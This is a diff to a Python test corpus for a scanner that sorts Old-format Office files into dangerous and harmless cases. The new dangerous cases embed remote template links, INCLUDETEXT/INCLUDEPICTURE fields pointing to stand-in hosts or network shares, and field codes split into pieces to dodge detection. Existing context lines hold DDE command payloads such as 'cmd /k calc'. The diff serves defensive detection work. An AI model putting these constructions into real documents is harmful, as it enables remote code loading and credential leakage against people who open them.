@@ -5,7 +5,7 @@ import zlib
 from typing import Final
 
 from tests.corpus.files.case import FileCase
-from tests.inspection.ole_files import ole, workbook
+from tests.inspection.ole_files import ole, word, workbook
 
 _COM: Final = "-0000-0000-C000-000000000046"
 _MONIKER: Final = bytes.fromhex("e0c9ea79f9bace118c8200aa004ba90b")
@@ -52,6 +52,16 @@ _DANGEROUS: Final = (
     _case("link.doc", ole({"WordDocument": _FIB, "\1Ole": bytes(30) + _MONIKER + b"h\0t\0t\0p\0"}), "remote"),
     _case("dde.doc", ole({"WordDocument": _FIB + b'\x13 DDEAUTO cmd "/k calc" \x14'}), "dde"),
     _case("dde-in-utf-16.doc", ole({"WordDocument": _FIB + "\x13 dde cmd\x14".encode("utf-16-le")}), "dde"),
+    _case("reads.doc", ole(word('\x13INCLUDETEXT "http://h.example/a.docx"\x14x\x15')), "remote"),
+    _case("reads-in-pieces.doc",
+        ole(word("\x13 INCLU", "DETEXT \u201cfile://h.example", "/s/a.doc\u201d", "\x15")), "remote"),
+    _case("reads-before-pieces.doc",
+        ole({"WordDocument": _FIB + b'\x13 LINK Word.Document.8 "\\\\h\\s\\a"\x14'}), "remote"),
+    _case("picture-on-a-share.doc", ole(word("\x13", r'INCLUDEPICTURE "\\\\10.0.0.1\\s\\a.png"')), "remote"),
+    _case("dde-in-pieces.doc", ole(word("\x13 \x13 QUOTE 68 68", " 69\x14\x15", " cmd\x15")), "dde"),
+    _case("template.doc", ole(word("A letter", template="http://h.example/a.dotm")), "remote"),
+    _case("template-on-a-share.doc", ole(word("A letter", template=r"\\10.0.0.1\s\a.dot")), "remote"),
+    _case("too-many-fields.doc", ole(word("\x13" * 300_001)), "not_examined"),
     _case("dde.xls", ole({"Workbook": workbook((0x1AE, b"\0\0\6\0\0cmd\3/c"))}), "dde"),
     _case("installer.doc", ole({"WordDocument": _FIB}, root=f"000C1084{_COM}"), "installer"),
     _case("encrypted.docx", ole({"EncryptionInfo": b"\4\0\4\0", "EncryptedPackage": b"x" * 900}), "not_examined"),
@@ -60,6 +70,17 @@ _DANGEROUS: Final = (
 )  # fmt: skip
 _HONEST: Final = (
     _case("letter.doc", ole({"WordDocument": _FIB + b"\x13 PAGE \x14 the macros of DDE", "1Table": b"x"})),
+    _case(
+        "fields.doc",
+        ole(
+            word(
+                '\x13 HYPERLINK "http://h.example/"\x14x\x15 \x13 INCLUDEPICTURE "http://h.example/a.png" \\d',
+                "\x14\x15",
+                ' \x13 INCLUDETEXT "C:\\\\a\\\\b.doc"\x15 the text LINK http://h.example',
+                template="C:\\a\\Normal.dot",
+            )
+        ),
+    ),
     _case("workbook.xls", ole({"Workbook": workbook((0x85, bytes(4) + b"\0\0\1\0A"), (0x1AE, b"\1\0\1\4"))})),
     _case("sheet-2.xls", _records((0x09, b"\2\0\x10\0"), (4, b"\0\0\0\0\0\0\0\1\x40"))),
     _case("sheet-4.xls", _records((0x409, _begin(0x10)))),
